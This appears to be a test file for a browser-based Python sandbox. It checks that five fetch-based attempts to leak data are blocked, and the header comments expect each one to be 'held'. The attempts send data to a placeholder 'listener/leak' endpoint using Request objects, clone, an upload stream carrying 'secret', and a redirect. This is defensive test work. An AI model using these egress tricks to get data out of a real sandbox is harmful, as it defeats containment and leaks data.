# outcome: ok
# with: door
# prints: held: Request: 
# prints: held: Request of a Request: 
# prints: held: upload stream: 
# prints: held: clone: 
# prints: held: Response.redirect: 
request = js.Request.new("http://{listener}/leak", obj(method="POST", body="x", mode="no-cors"))
await door("Request", lambda: js.fetch(request))
await door("Request of a Request", lambda: js.fetch(js.Request.new(js.Request.new("http://{listener}/leak"), obj(cache="force-cache"))))
await door("clone", lambda: js.fetch(js.Request.new("http://{listener}/leak").clone()))
stream = js.Blob.new(to_js(["secret"])).stream()
await door("upload stream", lambda: js.fetch("http://{listener}/leak", obj(method="POST", body=stream, duplex="half")))
async def redirected():
    response = js.Response.redirect("http://{listener}/leak", 307)
    if response.body is None:
        raise OSError("a redirect made here is followed by nobody")
await door("Response.redirect", redirected)
